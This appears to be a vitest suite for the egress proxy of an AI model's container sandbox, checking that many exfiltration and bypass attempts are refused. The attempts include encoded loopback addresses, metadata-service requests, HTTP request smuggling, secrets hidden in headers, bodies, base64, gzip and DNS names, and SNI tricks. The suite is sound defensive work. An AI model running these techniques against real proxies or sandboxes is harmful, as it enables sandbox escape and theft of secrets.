import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  ALLOWED,
  connectRequest,
  FORBIDDEN,
  OTHER_ALLOWED,
  openStage,
  PUBLIC_ADDRESS,
  plainRequest,
  type Stage,
  type StageOptions,
  VAULT_SECRET,
} from '../../egress/testing/stage.ts';
import type { ExecResult } from '../containers.ts';
import { type ContainerBench, type OpenContainer, openContainerBench } from './container-bench.ts';
import { WITHOUT_DOCKER } from './docker-daemon.ts';

/** Ways to carry something out of a container, each tried from inside a real one through the one door it has. */

if (WITHOUT_DOCKER !== undefined) console.warn(WITHOUT_DOCKER);

let bench: ContainerBench;
let inside: OpenContainer;
let sockets: string;

beforeAll(async () => {
  if (WITHOUT_DOCKER !== undefined) return;
  bench = await openContainerBench();
  sockets = bench.folder();
  chmodSync(sockets, 0o755);
  inside = await bench.open({ socketFolder: sockets });
  await inside.sh('until (exec 3<>/dev/tcp/127.0.0.1/3128) 2>/dev/null; do :; done');
}, 120_000);
afterAll(async () => bench?.[Symbol.asyncDispose](), 60_000);

/** A door for the container, with a server behind it that stands for the whole Internet. */
async function door(options: StageOptions = {}): Promise<Stage> {
  const stage = await openStage({ ...options, order: { socketPath: join(sockets, 'egress.sock') } });
  writeFileSync(join(inside.workspace, 'ca.pem'), stage.ca);
  return stage;
}

/** Says just these bytes to the door, past every program that would put them right. */
const raw = (bytes: string): string =>
  node(
    `const s = require('net').connect('/run/ironbark/egress.sock');
     s.on('data', (d) => process.stdout.write(d)); s.on('close', () => process.exit(0)); s.on('error', () => {});
     s.write(Buffer.from('${Buffer.from(bytes).toString('base64')}', 'base64'));
     setTimeout(() => process.exit(0), 8000);`,
  );

const node = (code: string): string => `node - <<'END'\n${code}\nEND`;

/** Opens a tunnel and says hello for this host in it. */
const tunnelTo = (authority: string, servername: string): string =>
  node(
    `const s = require('net').connect('/run/ironbark/egress.sock');
     s.write('CONNECT ${authority} HTTP/1.1\\r\\n\\r\\n');
     s.once('data', (d) => {
       process.stdout.write(d);
       const t = require('tls').connect({ socket: s, servername: '${servername}', rejectUnauthorized: false });
       t.on('error', (e) => { console.log(e.message); process.exit(1); });
       t.on('data', (d) => process.stdout.write(d));
       t.on('close', () => process.exit(0));
       t.write('GET /stolen HTTP/1.1\\r\\nHost: ${servername}\\r\\nConnection: close\\r\\n\\r\\n');
     });`,
  );

const curl = (rest: string): string => `curl -sS -i --max-time 15 --cacert /workspace/ca.pem ${rest}`;

const nothingLeft = ({ asked, sent, dialled }: Stage) => ({ asked, sent, dialled });
const NOTHING = { asked: [], sent: [], dialled: [] };
const outputOf = ({ stdout, stderr }: ExecResult): string => stdout + stderr;

describe.skipIf(WITHOUT_DOCKER !== undefined)('from inside a container', { timeout: 40_000 }, () => {
  test('what is allowed can be reached by ordinary programs, in plain and in tunnels', async () => {
    const stage = await door();
    const output = outputOf(await inside.sh(curl(`https://${ALLOWED}/a http://${ALLOWED}/b`)));
    expect(output).toMatch(/the answer[\s\S]*the answer/);
    expect(stage.asked).toEqual([`GET ${ALLOWED} /a `, `GET ${ALLOWED} /b `]);
    const byNode = node(
      `fetch('https://${OTHER_ALLOWED}/c').then(async (r) => console.log(r.status, await r.text()), (e) => console.log(e.cause ?? e))`,
    );
    expect(
      outputOf(await inside.sh(byNode, { environment: { NODE_EXTRA_CA_CERTS: '/workspace/ca.pem' } })),
    ).toContain('200 the answer');
    await expect
      .poll(() => stage.audit.map(({ kind }) => kind).toSorted())
      .toEqual(['http.answered', 'http.answered', 'http.answered', 'http.opened', 'http.opened']);
  });

  const secret64 = Buffer.from(VAULT_SECRET).toString('base64');
  const someKey = 'ghp_x7Kq2mNv9RtYb4LpZs8WdHf3JcGe6TuAoXi5';
  const rebinding: StageOptions = { addresses: ['127.0.0.1'] };
  const mixed: StageOptions = { addresses: [PUBLIC_ADDRESS, '10.0.0.1'] };

  test.each<[what: string, rule: string, command: string, options?: StageOptions]>([
    ['another host, in a tunnel', 'host-not-allowed', curl(`https://${FORBIDDEN}/`)],
    ['another host, in plain', 'host-not-allowed', curl(`http://${FORBIDDEN}/`)],
    ['a public address', 'host-not-allowed', curl('https://1.1.1.1/')],
    ['a decimal address', 'host-not-allowed', raw(plainRequest('http://2130706433/'))],
    ['an octal address', 'host-not-allowed', raw(plainRequest('http://0177.0.0.01/'))],
    ['a hexadecimal address', 'host-not-allowed', raw(connectRequest('0x7f000001:443'))],
    ['an address mapped into another', 'host-not-allowed', raw(connectRequest('[::ffff:10.0.0.1]:443'))],
    ['the metadata service', 'host-not-allowed', curl('http://169.254.169.254/latest/meta-data/')],
    ['an allowed name that leads to this machine', 'loopback', curl(`https://${ALLOWED}/`), rebinding],
    ['an allowed name that leads there as well', 'private', curl(`http://${ALLOWED}/`), mixed],
    ['another port', 'port', raw(connectRequest(`${ALLOWED}:22`))],
    ['a user before the host', 'userinfo', raw(plainRequest(`http://${ALLOWED}@${FORBIDDEN}/`))],
    [
      'another host in the Host header',
      'host-mismatch',
      raw(`GET http://${ALLOWED}/ HTTP/1.1\r\nHost: ${FORBIDDEN}\r\nConnection: close\r\n\r\n`),
    ],
    [
      'a request hidden behind another',
      'request-malformed',
      raw(
        `POST http://${ALLOWED}/ HTTP/1.1\r\nHost: ${ALLOWED}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://${FORBIDDEN}/ HTTP/1.1\r\n\r\n`,
      ),
    ],
    [
      'a folded header',
      'request-malformed',
      raw(`GET http://${ALLOWED}/ HTTP/1.1\r\nX-A: b\r\n Host: ${FORBIDDEN}\r\n\r\n`),
    ],
    [
      'a head without end',
      'headers-too-large',
      raw(plainRequest(`http://${ALLOWED}/`, { headers: [`X: ${'y'.repeat(40_000)}`] })),
    ],
    [
      "the assistant's own socket",
      'request-malformed',
      raw('GET unix:/run/ironbark/orchestrator.sock HTTP/1.1\r\n\r\n'),
    ],
    [
      "the assistant's own address",
      'not-a-proxy-request',
      raw('GET /worker/job-1/credentials HTTP/1.1\r\nConnection: close\r\n\r\n'),
    ],
    ['a secret in a URL', 'leak-in-request', curl(`'http://${ALLOWED}/?q=${VAULT_SECRET}'`)],
    ['a secret in a header', 'leak-in-request', curl(`-H 'X-Note: ${VAULT_SECRET}' http://${ALLOWED}/`)],
    ['a secret in a body', 'leak-in-request', curl(`-d 'a=${VAULT_SECRET}' http://${ALLOWED}/`)],
    ['a secret in base64', 'leak-in-request', curl(`-d '${secret64}' http://${ALLOWED}/`)],
    ["somebody's key", 'leak-in-request', curl(`-d 'key ${someKey}' http://${ALLOWED}/`)],
    [
      'a secret that is packed',
      'encoding',
      `echo ${VAULT_SECRET} | gzip > /tmp/x.gz; ${curl(`-H 'Content-Encoding: gzip' --data-binary @/tmp/x.gz http://${ALLOWED}/`)}`,
    ],
  ])('%s is not reached: %s', async (_, rule, command, options) => {
    const stage = await door(options);
    const output = outputOf(await inside.sh(command));
    expect(nothingLeft(stage)).toEqual(NOTHING);
    expect(output).toContain(`X-Ironbark-Rule: ${rule}`);
    expect(stage.audit).toMatchObject([{ kind: 'http.refused', rule, effectId: 'job/job-1' }]);
  });

  test.each<[what: string, rule: string, authority: string, servername: string]>([
    ['a host that is not allowed', 'sni-mismatch', `${ALLOWED}:443`, FORBIDDEN],
    ['a host that is allowed as well', 'sni-mismatch', `${ALLOWED}:443`, OTHER_ALLOWED],
    ['nobody', 'sni-missing', `${ALLOWED}:443`, ''],
  ])('a tunnel to an allowed host carries nothing for %s: %s', async (_, rule, authority, servername) => {
    const stage = await door();
    const output = outputOf(await inside.sh(tunnelTo(authority, servername)));
    expect(output).toMatch(/access denied/i);
    expect(stage.asked).toEqual([]);
    expect(stage.audit).toMatchObject([{ kind: 'http.refused', rule, detail: { host: ALLOWED } }]);
  });

  test('a tunnel carries nothing but TLS', async () => {
    const stage = await door();
    await inside.sh(raw(`${connectRequest(`${ALLOWED}:443`)}SSH-2.0-OpenSSH_9.6\r\n`));
    expect(stage.audit).toMatchObject([{ kind: 'http.refused', rule: 'not-tls' }]);
  });

  test('a secret cannot be told by the names that are looked up', async () => {
    const stage = await door();
    const name = `${Buffer.from(VAULT_SECRET).toString('hex')}.${FORBIDDEN}`;
    await inside.sh(`getent hosts ${name}; ${curl(`http://${name}/`)}; ${curl(`https://${name}/`)}`);
    expect({ ...nothingLeft(stage), resolved: stage.resolved }).toEqual({ ...NOTHING, resolved: [] });
    expect(stage.audit.map(({ rule }) => rule)).toEqual(['host-not-allowed', 'host-not-allowed']);
    expect(JSON.stringify(stage.audit)).not.toContain(Buffer.from(VAULT_SECRET).toString('hex'));
  });

  test('no more than so much gets out through tunnels, whatever it is', async () => {
    const stage = await door({ limits: { uploadBytes: 200_000 } });
    const upload = `head -c 1000000 /dev/urandom > /tmp/loot; ${curl(`-T /tmp/loot https://${ALLOWED}/loot`)}`;
    await inside.sh(upload);
    await expect.poll(() => stage.audit.at(-1)).toMatchObject({ kind: 'http.failed', rule: 'upload-limit' });
    expect(stage.asked).toEqual([]);
    expect(outputOf(await inside.sh(curl(`http://${ALLOWED}/`)))).toContain('X-Ironbark-Rule: upload-limit');
    expect(stage.door.counts().upBytes).toBeLessThanOrEqual(200_000);
  });

  test('a flood is refused, and does not fill the log', async () => {
    const stage = await door({ limits: { rate: { perMinute: 10, perHour: 100 } } });
    await inside.sh(`for i in $(seq 60); do curl -s -o /dev/null http://${FORBIDDEN}/$i & done; wait`);
    expect(stage.audit).toHaveLength(11);
    expect(stage.audit.at(-1)).toMatchObject({ rule: 'http-rate' });
    expect(stage.door.counts().refused).toBe(60);
  });

  test('there is no other way than the door', async () => {
    const stage = await door();
    const output = outputOf(
      await inside.sh(
        `cat /proc/net/dev | tail -n +3 | cut -d: -f1; env -u http_proxy -u https_proxy curl --noproxy '*' -sS --max-time 5 https://1.1.1.1/`,
      ),
    );
    expect(output).toMatch(/^\s*lo\n/);
    expect(output).toMatch(/Failed to connect|Could not connect|unreachable/i);
    expect(stage.audit).toEqual([]);
  });

  test('the folder of the door cannot be tampered with', async () => {
    const stage = await door();
    const { stdout, stderr } = await inside.sh(
      'cd /run/ironbark; rm -f egress.sock; mv egress.sock x; ln -s /tmp/x y; touch z; chmod 777 egress.sock; ls',
    );
    expect(stderr.match(/Read-only file system/g)).toHaveLength(5);
    expect(stdout).toContain('egress.sock');
    expect(outputOf(await inside.sh(curl(`http://${ALLOWED}/`)))).toContain('the answer');
    expect(stage.asked).toHaveLength(1);
  });
});
